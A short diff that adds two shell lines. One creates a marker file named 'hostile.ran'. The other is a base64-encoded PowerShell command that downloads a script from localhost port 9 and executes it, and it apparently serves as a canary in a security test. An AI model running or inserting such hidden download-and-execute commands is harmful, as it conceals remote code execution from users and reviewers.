@@ -1,0 +1,2 @@
+touch hostile.ran
+pwsh -NoProfile -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADIANwAuADAALgAwAC4AMQA6ADkALwBwACkA
